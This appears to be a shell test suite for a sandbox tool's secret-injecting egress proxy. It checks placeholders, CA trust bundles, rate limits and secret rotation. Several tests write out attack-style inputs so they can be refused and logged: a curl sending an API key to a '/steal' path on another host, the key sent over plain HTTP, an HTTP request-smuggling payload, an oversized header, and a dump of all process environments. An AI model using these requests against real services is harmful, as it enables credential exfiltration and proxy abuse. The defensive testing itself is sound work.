#!/bin/bash
# --secret: inside, $NAME is a placeholder; the supervisor's proxy ends the TLS of connections
# to the secret's hosts (a leaf of the sandbox's CA, which the sandbox trusts through
# /run/sbx/ca-bundle.crt and SSL_CERT_FILE & co.), verifies the real server against the host's
# trust store (here SSL_CERT_FILE: the test's CA), and puts the value where the placeholder was.
# The servers are the file's own HTTPS servers (tests/helpers/tlsrec.py) in its own internet
# (tests/helpers/testnet.sh), with certificates the test makes with openssl.
# shellcheck disable=SC2016,SC2317,SC2034 # lib.sh evals the single-quoted bodies
# shellcheck source=tests/helpers/testnet.sh
. "$(dirname "$0")/helpers/testnet.sh"
testnet_reexec "$@"
# shellcheck source=tests/lib.sh
. "$(dirname "$0")/lib.sh"
test_skip_unless USERNS python3 curl openssl git

HELPERS=$TEST_DIR/helpers
VALUE="real-$(head -c 16 /dev/urandom | od -An -tx1 | tr -d ' \n')"
OTHER_VALUE="other-$(head -c 16 /dev/urandom | od -An -tx1 | tr -d ' \n')"

# a CA, and a certificate of it for each name; a self-signed one that nothing trusts
make_certs() {
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
		-subj "/CN=sbx test CA" -keyout ca.key -out ca.crt &&
		for n in api.test other.test plain.test bad.test; do
			openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
				-subj "/CN=$n" -keyout "$n.key" -out "$n.csr" &&
				printf 'subjectAltName=DNS:%s\n' "$n" >"$n.ext" &&
				openssl x509 -req -in "$n.csr" -CA ca.crt -CAkey ca.key -CAcreateserial \
					-days 2 -extfile "$n.ext" -out "$n.crt" || return 1
		done &&
		openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
			-subj "/CN=bad.test" -addext "subjectAltName=DNS:bad.test" \
			-keyout bad.test.key -out bad.test.crt
}

make_certs >certs.log 2>&1 || { cat certs.log; exit 1; }
# node 20's fetch takes no proxy from the environment: a CONNECT of its own, then TLS over it
# (trusting NODE_EXTRA_CA_CERTS), then a GET with the placeholder
cat >get.js <<'EOF'
const http = require("http"), tls = require("tls");
const p = new URL(process.env.https_proxy);
const auth = Buffer.from(decodeURIComponent(p.username) + ":" + decodeURIComponent(p.password)).toString("base64");
http.request({ host: p.hostname, port: p.port, method: "CONNECT", path: "api.test:8443",
	headers: { "Proxy-Authorization": "Basic " + auth } }).on("connect", (res, sock) => {
	const s = tls.connect({ socket: sock, servername: "api.test" }, () => {
		s.write("GET /node HTTP/1.1\r\nHost: api.test:8443\r\nAuthorization: Bearer " +
			process.env.API_KEY + "\r\nConnection: close\r\n\r\n");
	});
	let out = "";
	s.on("data", (d) => (out += d));
	s.on("end", () => process.stdout.write(out.split("\r\n\r\n")[1]));
	s.on("error", (e) => { console.error(e.message); process.exit(1); });
}).end();
EOF
mkdir -p www www/apt
# a flat apt repository with no packages: apt-get update over HTTPS reads Release and Packages
: >www/apt/Packages
{
	printf "%s\n" "Origin: sbx-test" "Label: sbx-test" "Suite: test" "Codename: test" \
		"Date: Thu, 01 Jan 2026 00:00:00 UTC" "Architectures: amd64 all" "MD5Sum:" \
		" $(md5sum <www/apt/Packages | cut -d" " -f1) 0 Packages" "SHA256:" \
		" $(sha256sum <www/apt/Packages | cut -d" " -f1) 0 Packages"
} >www/apt/Release
{
	git init -q -b main src && echo "cloned with a secret" >src/README &&
		git -C src add README &&
		git -C src -c user.name=t -c user.email=t@example.invalid commit -qm one &&
		git clone -q --bare src www/repo.git && git -C www/repo.git update-server-info
} >git.log 2>&1 || { cat git.log; exit 1; }
if ! testnet_up >testnet.log 2>&1; then
	TEST_SKIP_ALL="no test internet: $(tail -n 1 testnet.log)"
fi
if [ -z "$TEST_SKIP_ALL" ]; then
	testnet_srv_bg "$TEST_PYTHON" "$HELPERS/tlsrec.py" --bind "$TN_WEB" --log "$PWD/recv.log" \
		--ready "$PWD/srv.ready" --root "$PWD/www" --lifetime 600 \
		"api:8443:$PWD/api.test.crt:$PWD/api.test.key" \
		"other:8444:$PWD/other.test.crt:$PWD/other.test.key" \
		"plain:8445:$PWD/plain.test.crt:$PWD/plain.test.key" \
		"bad:8446:$PWD/bad.test.crt:$PWD/bad.test.key" 2>srv.log
	test_atexit "stop_pid $TN_BG"
	wait_until 10 test -s srv.ready
fi
# the supervisor trusts the test's CA (and nothing else): the host's trust store, as far as
# OpenSSL's default paths go
export SSL_CERT_FILE=$PWD/ca.crt
export API_KEY=$VALUE OTHER_KEY=$OTHER_VALUE
ADD=(--add-host "api.test:$TN_WEB" --add-host "other.test:$TN_WEB" --add-host "plain.test:$TN_WEB"
	--add-host "bad.test:$TN_WEB")
HOSTS=api.test,other.test,plain.test,bad.test
NET=(--net "allow=$HOSTS" --net-preset none "${ADD[@]}")
CURL=(curl -sS --max-time 20)
test_atexit rm_all_gone
: >recv.log

# sb_dir SB: the host path of a sandbox's directory
sb_dir() { echo "$SBX_HOME/sandboxes/$(sbx inspect "$1" | "$TEST_PYTHON" -c 'import json, sys; print(json.load(sys.stdin)["id"])')"; }

# received HEADER: the values the server saw for HEADER, one a line
received() { "$TEST_PYTHON" -c 'import json,sys
for l in open(sys.argv[1]):
    h = json.loads(l)["headers"]
    for k, v in h.items():
        if k.lower() == sys.argv[2].lower(): print(v)' recv.log "$1"; }

test_expect_success 'refusals at create: no proxy, a host not allowed, no value, a hosted provider' '
	expect_code 125 sbx create --secret API_KEY@api.test 2>err &&
	test_grep -F "needs the egress proxy" err &&
	expect_code 125 sbx create --net allow=other.test --net-preset none --secret API_KEY@api.test 2>err &&
	test_grep -F "api.test is not in the allow list" err &&
	expect_code 125 env -u API_KEY "$SBX" create --net allow=api.test --secret API_KEY@api.test 2>err &&
	test_grep -F "environment variable API_KEY is not set" err &&
	expect_code 125 sbx create --secret "bad name@api.test" --net allow=api.test 2>err &&
	test_grep -F "invalid --secret" err &&
	sbx create --name src0 --net allow=api.test >/dev/null &&
	expect_code 125 sbx fork src0 --net allow=api.test --secret API_KEY@api.test 2>err &&
	test_grep -F "does not go with --from or fork" err &&
	expect_code 125 sbx create --provider e2b --net allow=api.test --secret API_KEY@api.test 2>err &&
	test_grep -F "does not support --secret" err &&
	test_grep ! -F "$VALUE" err
'

test_expect_success 'setup: a sandbox with two secrets' '
	echo "$OTHER_VALUE" >other.secret &&
	sbx --debug create --name sec "${NET[@]}" --secret API_KEY@api.test \
		--secret "OTHER_KEY=@$PWD/other.secret@other.test" >id 2>debug.log &&
	test_grep ! -F "$VALUE" debug.log
'

test_expect_success 'inside, $API_KEY is a placeholder, not the value' '
	sbx exec sec sh -c "echo \$API_KEY" >ph &&
	test_match "^sbx-secret-[A-Za-z0-9]{32}\$" "$(cat ph)" &&
	test_grep ! -F "$VALUE" ph
'

test_expect_success 'the CA is in the trust bundle programs read by default: curl without the variables (control: no secrets, the host'"'"'s bundle as it is)' '
	: >recv.log &&
	sbx exec sec sh -c "env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS --max-time 20 -H \"x-api-key: \$API_KEY\" https://api.test:8443/sys" >out 2>err &&
	test_eq "ok api" "$(cat out)" && test_eq "$VALUE" "$(received x-api-key)" &&
	sbx exec sec cat /etc/ssl/certs/ca-certificates.crt >b &&
	sbx exec sec cat /run/sbx/ca-bundle.crt >r && test_file_eq r b &&
	n=$(stat -c %s /etc/ssl/certs/ca-certificates.crt) &&
	head -c "$n" b | cmp - /etc/ssl/certs/ca-certificates.crt &&
	tail -c +"$((n + 1))" b >ca.in && test_file_eq "$(sb_dir sec)/secrets/ca.crt" ca.in &&
	sbx create --name nosecb "${NET[@]}" >/dev/null &&
	sbx exec nosecb cat /etc/ssl/certs/ca-certificates.crt | cmp - /etc/ssl/certs/ca-certificates.crt &&
	sbx rm -f nosecb >/dev/null
'

test_expect_success 'an image sandbox: the image'"'"'s own bundle, with the CA after it' '
	"$TEST_PYTHON" "$TEST_DIR/helpers/mkimage.py" --out bb.tar --format oci-archive \
		--name localhost/secbb:1 --preset busybox >/dev/null &&
	sbx image import bb.tar >/dev/null &&
	mkdir -p bctx && printf "%s\n" "# the image'"'"'s own CAs" >bctx/bundle.crt &&
	printf "%s\n" "FROM localhost/secbb:1" "COPY bundle.crt /etc/ssl/certs/ca-certificates.crt" \
		>bctx/Dockerfile &&
	sbx image build -q -t localhost/secbb:2 bctx >/dev/null &&
	sbx create --name secimg --image localhost/secbb:2 "${NET[@]}" --secret API_KEY@api.test >/dev/null &&
	sbx exec secimg cat /etc/ssl/certs/ca-certificates.crt >b &&
	{ cat bctx/bundle.crt "$(sb_dir secimg)/secrets/ca.crt"; } >want && test_file_eq want b &&
	sbx exec secimg sh -c "echo \$SSL_CERT_FILE; cat /run/sbx/ca-bundle.crt" >r &&
	test_eq /run/sbx/ca-bundle.crt "$(head -n 1 r)" && tail -n +2 r | cmp - want &&
	sbx rm -f secimg >/dev/null
'

test_expect_success 'curl: the server receives the value in Authorization and the query' '
	: >recv.log &&
	sbx exec sec sh -c "curl -sS --max-time 20 -H \"Authorization: Bearer \$API_KEY\" \"https://api.test:8443/v1?key=\$API_KEY\"" >out 2>err &&
	test_eq "ok api" "$(cat out)" &&
	test_eq "Bearer $VALUE" "$(received Authorization)" &&
	test_grep -F "/v1?key=$VALUE" recv.log &&
	test_grep ! -F "sbx-secret-" recv.log
'

test_expect_success 'a placeholder as a password (Basic credentials, as git and pip send a URL'"'"'s): the value put in' '
	: >recv.log &&
	sbx exec sec sh -c "curl -sS --max-time 20 -u \"x-access-token:\$API_KEY\" https://api.test:8443/basic" >out 2>err &&
	test_eq "ok api" "$(cat out)" &&
	test_eq "Basic $(printf "x-access-token:%s" "$VALUE" | base64 -w0)" "$(received Authorization)" &&
	expect_code 22 sbx exec sec sh -c "curl -sSf --max-time 20 -u \"u:\$API_KEY\" https://other.test:8444/basic" 2>err &&
	test_grep "403" err && test_eq 1 "$(received Authorization | wc -l)"
'

test_expect_success 'apt over HTTPS, unchanged: it trusts the CA by its default bundle, its auth.conf password is the placeholder' '
	: >recv.log &&
	sbx exec sec sh -c "set -e; d=/tmp/apt; mkdir -p \$d/lists/partial \$d/cache/archives/partial
echo \"deb [trusted=yes] https://api.test:8443/apt ./\" >\$d/sources.list
printf \"machine api.test\nlogin apt\npassword %s\n\" \"\$API_KEY\" >\$d/auth.conf
apt-get -q -o Dir::Etc::SourceList=\$d/sources.list -o Dir::Etc::SourceParts=/nonexistent \
 -o Dir::Etc::netrc=\$d/auth.conf -o Dir::State::Lists=\$d/lists -o Dir::Cache=\$d/cache \
 -o Debug::NoLocking=1 -o APT::Sandbox::User=root update" >out 2>err || { cat out err; exit 1; } &&
	test_grep "api.test:8443/apt ./ Release" out &&
	test_grep -F "\"path\": \"/apt/./Release\"" recv.log &&
	test_eq "Basic $(printf "apt:%s" "$VALUE" | base64 -w0)" "$(received Authorization | sort -u)"
'

test_expect_success 'keep-alive and bodies: two requests on one connection, a POST body relayed as it is' '
	: >recv.log &&
	sbx exec sec sh -c "curl -sS --max-time 20 -H \"x-api-key: \$API_KEY\" https://api.test:8443/a --next -H \"x-api-key: \$API_KEY\" -d hello-body https://api.test:8443/b" >out 2>err &&
	test_eq "ok api
ok api 10" "$(cat out)" &&
	test_eq 2 "$(received x-api-key | grep -c -F "$VALUE")" &&
	test_grep -F "hello-body" recv.log
'

test_expect_success 'python urllib, requests and httpx, node fetch and git reach it with the placeholder' '
	: >recv.log &&
	sbx exec sec /usr/bin/python3 -c "import os, urllib.request as u, requests, httpx
h = {\"Authorization\": \"Bearer \" + os.environ[\"API_KEY\"]}
r = u.Request(\"https://api.test:8443/py\", headers=h)
print(u.urlopen(r, timeout=20).read().decode().strip())
print(requests.get(\"https://api.test:8443/rq\", headers=h, timeout=20).text.strip())
print(httpx.get(\"https://api.test:8443/hx\", headers=h, timeout=20).text.strip())" >out &&
	test_eq "ok api|ok api|ok api" "$(paste -sd "|" out)" &&
	test_eq "Bearer $VALUE|Bearer $VALUE|Bearer $VALUE" "$(received Authorization | paste -sd "|")" &&
	if [ -x /usr/bin/node ]; then
		: >recv.log &&
		sbx exec sec /usr/bin/node -e "$(cat get.js)" >out &&
		test_eq "ok api" "$(cat out)" &&
		test_eq "Bearer $VALUE" "$(received Authorization)"
	fi &&
	: >recv.log &&
	sbx exec sec sh -c "cd /tmp && git -c http.extraHeader=\"Authorization: Bearer \$API_KEY\" clone -q https://api.test:8443/repo.git r && cat r/README" >out &&
	test_eq "cloned with a secret" "$(cat out)" &&
	received Authorization | sort -u >auth &&
	test_eq "Bearer $VALUE" "$(cat auth)"
'

test_expect_success 'a placeholder sent to another secret host: 403, logged as possible exfiltration' '
	: >recv.log &&
	sbx exec sec sh -c "curl -sS --max-time 20 -i -H \"Authorization: Bearer \$API_KEY\" https://other.test:8444/steal" >out 2>err &&
	test_grep "^HTTP/1.1 403 Forbidden" out &&
	test_grep -F "secret API_KEY sent to other.test, not one of its hosts: possible exfiltration" out &&
	test_grep ! -F "/steal" recv.log &&
	sbx logs --egress --json sec >egress &&
	test_grep -F "possible exfiltration" egress &&
	test_grep -F "\"secrets\":[\"API_KEY\"]" egress &&
	sbx exec sec sh -c "curl -sS --max-time 20 -H \"Authorization: Bearer \$OTHER_KEY\" https://other.test:8444/own" >out &&
	test_eq "ok other" "$(cat out)" &&
	test_eq "Bearer $OTHER_VALUE" "$(received Authorization)"
'

test_expect_success 'a placeholder in plain HTTP, to any host: 403, logged as possible exfiltration' '
	sbx exec sec sh -c "curl -sS --max-time 20 -i \"http://plain.test:8445/?k=\$API_KEY\"" >out 2>err &&
	test_grep "^HTTP/1.1 403" out &&
	test_grep -F "secret API_KEY sent to plain.test in plain HTTP" out &&
	sbx exec sec sh -c "curl -sS --max-time 20 -i \"http://api.test:8443/?k=\$API_KEY\"" >out 2>err &&
	test_grep -F "secret API_KEY sent to api.test in plain HTTP" out &&
	sbx logs --egress --json sec >egress &&
	test_grep -F "in plain HTTP, not over TLS to one of its hosts: possible exfiltration" egress
'

test_expect_success 'a host without secrets: its own certificate end to end' '
	sbx exec sec sh -c "curl -sS --max-time 20 -v -k https://plain.test:8445/x" >out 2>err &&
	test_eq "ok plain" "$(cat out)" &&
	test_grep -F "issuer: CN=sbx test CA" err &&
	sbx exec sec sh -c "curl -sS --max-time 20 -v https://plain.test:8445/x" >out 2>err;
	test_grep -F "unable to get local issuer certificate" err &&
	sbx exec sec sh -c "curl -sS --max-time 20 -v https://api.test:8443/x" >out 2>err &&
	test_grep -F "issuer: CN=sbx sandbox sec secrets CA" err
'

test_expect_success 'a bad upstream certificate is refused' '
	sbx create --name badsec "${NET[@]}" --secret API_KEY@bad.test >/dev/null &&
	sbx exec badsec sh -c "curl -sS --max-time 20 -i https://bad.test:8446/x" >out 2>err &&
	test_grep "^HTTP/1.1 502 Bad Gateway" out &&
	test_grep -F "certificate of bad.test is not trusted" out
'

# raw RAW: sends the bytes RAW (printf format) on a TLS connection to api.test through the proxy
raw() { sbx exec sec sh -c "printf \"$1\" | timeout 20 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect api.test:8443 -servername api.test 2>/dev/null"; }

test_expect_success 'hostile requests: smuggling, an oversized head, an HTTP/2 preface' '
	raw "POST /s HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 3\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" >out &&
	test_grep -F "request smuggling" out &&
	sbx exec sec sh -c "(printf \"GET / HTTP/1.1\\r\\nHost: api.test\\r\\nX-Big: \"; head -c 20000 /dev/zero | tr \"\\\\0\" a; printf \"\\r\\n\\r\\n\") | timeout 20 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect api.test:8443 -servername api.test 2>/dev/null" >out &&
	test_grep -F "431" out &&
	raw "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" >out &&
	test_grep -F "HTTP/2 is not spoken" out &&
	raw "GET /ok HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n" >out &&
	test_grep -F "ok api" out
'

# the sandbox's files are its root directory on the host (the rest of / is the host's system,
# read-only): the value is searched for there, and everywhere else under SBX_HOME, from outside
# (a command inside that named it would put it there)
test_expect_success 'the value appears nowhere inside, nor in any output of sbx' '
	sbx exec sec sh -c "cat /proc/[0-9]*/environ 2>/dev/null | tr \"\\\\0\" \"\\\\n\"" >environ &&
	test_grep -F "API_KEY=sbx-secret-" environ &&
	test_grep ! -F "$VALUE" environ &&
	sbx snapshot create sec --name snap1 >/dev/null &&
	test_grep -rF "sbx-secret-" "$SBX_HOME/snapshots" >/dev/null 2>&1;
	sbx ls >o1 && sbx inspect sec >o2 && sbx logs --egress sec >o3 &&
	sbx --debug exec sec true >o4 2>&1 &&
	cat o1 o2 o3 o4 >all &&
	test_grep ! -F "$VALUE" all &&
	test_grep ! -F "$OTHER_VALUE" all &&
	grep -rlF "$VALUE" "$SBX_HOME" >where &&
	test_eq 2 "$(grep -c "/secrets/values.json\$" where)" &&
	test_eq 2 "$(grep -c "" where)" &&
	id=$(cat id) &&
	f=$SBX_HOME/sandboxes/$id/secrets/values.json &&
	test_eq 600 "$(stat -c %a "$f")" &&
	test_eq 600 "$(stat -c %a "$(dirname "$f")/ca.key")"
'

test_expect_success '--net-rate holds inside a connection with secrets: requests past the limit get 429 (control: the first goes)' '
	sbx create --name rsec "${NET[@]}" --net-rate api.test=1r/m --secret API_KEY@api.test >/dev/null &&
	sbx exec rsec sh -c "curl -sS --max-time 20 -H \"x-api-key: \$API_KEY\" https://api.test:8443/r1 --next -H \"x-api-key: \$API_KEY\" https://api.test:8443/r2" >out 2>err &&
	test_grep -x "ok api" out && test_grep "over the rate limit of sandbox .rsec." out &&
	sbx logs --egress --json rsec >log &&
	jsonl_assert log "d = [x for x in r if x[\"verdict\"] == \"deny\" and \"rate limit\" in x.get(\"reason\", \"\")]
assert len(d) == 1, d" &&
	sbx rm -f rsec >/dev/null
'

test_expect_success '--net-rate byte limits and sbx stats count what a connection with secrets moves' '
	sbx create --name bsec "${NET[@]}" --net-rate 256k/s --secret API_KEY@api.test >/dev/null &&
	sbx exec bsec sh -c "curl -sS --max-time 60 -H \"x-api-key: \$API_KEY\" https://api.test:8443/big/524288 | wc -c" >n &&
	test_eq 524288 "$(cat n)" &&
	sbx logs --egress --json bsec >log &&
	jsonl_assert log "d = [x for x in r if x.get(\"proto\") == \"connect\" and x[\"verdict\"] == \"allow\"]
assert len(d) == 1 and d[0][\"bytes_down\"] >= 524288 and d[0].get(\"throttled_ms\", 0) > 0, d" &&
	sbx stats --json bsec >st &&
	json_assert st "s = r[0]; assert s[\"net_rx_bytes\"] >= 524288 and s[\"net_tx_bytes\"] > 0, s" &&
	sbx rm -f bsec >/dev/null
'

test_expect_success 'sbx secret ls: names and hosts, never values' '
	sbx secret ls sec >ls &&
	test_grep "^API_KEY  *api.test\$" ls &&
	test_grep "^OTHER_KEY  *other.test\$" ls &&
	sbx secret ls --json sec >lsj &&
	test_grep -F "\"name\": \"API_KEY\"" lsj &&
	cat ls lsj >both &&
	test_grep ! -F "$VALUE" both &&
	test_grep ! -F "sbx-secret-" both
'

ROTATED="rotated-$(head -c 16 /dev/urandom | od -An -tx1 | tr -d ' \n')"
test_expect_success 'sbx update --secret: a new value for the running sandbox, the placeholder kept' '
	old=$(sbx exec sec sh -c "echo \$API_KEY") &&
	API_KEY=$ROTATED sbx update sec --secret API_KEY@api.test >/dev/null &&
	test_eq "$old" "$(sbx exec sec sh -c "echo \$API_KEY")" &&
	: >recv.log &&
	sbx exec sec sh -c "curl -sS --max-time 20 -H \"Authorization: Bearer \$API_KEY\" https://api.test:8443/r" >out &&
	test_eq "ok api" "$(cat out)" &&
	test_eq "Bearer $ROTATED" "$(received Authorization)"
'

test_expect_success 'sbx update --secret: a new secret for another host, which the proxy now ends TLS for' '
	THIRD=third-value sbx update sec --secret THIRD@plain.test >/dev/null &&
	: >recv.log &&
	sbx exec sec sh -c "curl -sS --max-time 20 -v -H \"x-api-key: \$THIRD\" https://plain.test:8445/t" >out 2>err &&
	test_eq "ok plain" "$(cat out)" &&
	test_grep -F "issuer: CN=sbx sandbox sec secrets CA" err &&
	test_eq "third-value" "$(received x-api-key)"
'

test_expect_success 'sbx update --secret refused: a sandbox without secrets, a host not allowed' '
	sbx create --name nosec "${NET[@]}" >/dev/null &&
	expect_code 125 sbx update nosec --secret API_KEY@api.test 2>err &&
	test_grep -F "was created without --secret" err &&
	expect_code 125 sbx update sec --secret API_KEY@elsewhere.test 2>err &&
	test_grep -F "elsewhere.test is not in the allow list" err
'

# --runtime gvisor: the same sandbox's CA, bound over the system's bundle by sbx (gVisor's
# kernel sees none of init's mounts), and the same proxy
if [ -x "${SBX_RUNSC:-/usr/bin/runsc}" ]; then
	test_expect_success '--runtime gvisor: the CA in the bundle programs read by default; the value put in' '
		sbx create --name gsec --runtime gvisor "${NET[@]}" --secret API_KEY@api.test >/dev/null &&
		sbx exec gsec sh -c "echo \$API_KEY" >ph &&
		test_match "^sbx-secret-[A-Za-z0-9]{32}\$" "$(cat ph)" && test_grep ! -F "$VALUE" ph &&
		: >recv.log &&
		sbx exec gsec sh -c "env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS --max-time 20 -H \"x-api-key: \$API_KEY\" https://api.test:8443/gsys" >out 2>err &&
		test_eq "ok api" "$(cat out)" && test_eq "$VALUE" "$(received x-api-key)" &&
		sbx exec gsec cat /etc/ssl/certs/ca-certificates.crt >b &&
		sbx exec gsec cat /run/sbx/ca-bundle.crt >r && test_file_eq r b &&
		n=$(stat -c %s /etc/ssl/certs/ca-certificates.crt) &&
		head -c "$n" b | cmp - /etc/ssl/certs/ca-certificates.crt &&
		tail -c +"$((n + 1))" b >ca.in && test_file_eq "$(sb_dir gsec)/secrets/ca.crt" ca.in &&
		: "control: without --secret, the host'"'"'s bundle as it is" &&
		sbx create --name gnosec --runtime gvisor "${NET[@]}" >/dev/null &&
		sbx exec gnosec cat /etc/ssl/certs/ca-certificates.crt | cmp - /etc/ssl/certs/ca-certificates.crt &&
		sbx rm -f gsec gnosec >/dev/null
	'

	test_expect_success '--runtime gvisor on an image: the image'"'"'s own bundle, with the CA after it' '
		sbx create --name gsecimg --runtime gvisor --image localhost/secbb:2 "${NET[@]}" --secret API_KEY@api.test >/dev/null &&
		sbx exec gsecimg cat /etc/ssl/certs/ca-certificates.crt >b &&
		{ cat bctx/bundle.crt "$(sb_dir gsecimg)/secrets/ca.crt"; } >want && test_file_eq want b &&
		sbx exec gsecimg sh -c "echo \$SSL_CERT_FILE; cat /run/sbx/ca-bundle.crt" >r &&
		test_eq /run/sbx/ca-bundle.crt "$(head -n 1 r)" && tail -n +2 r | cmp - want &&
		sbx rm -f gsecimg >/dev/null
	'
else
	test_skip '--secret under --runtime gvisor' 'no runsc (scripts/install-deps installs it)'
fi

test_done
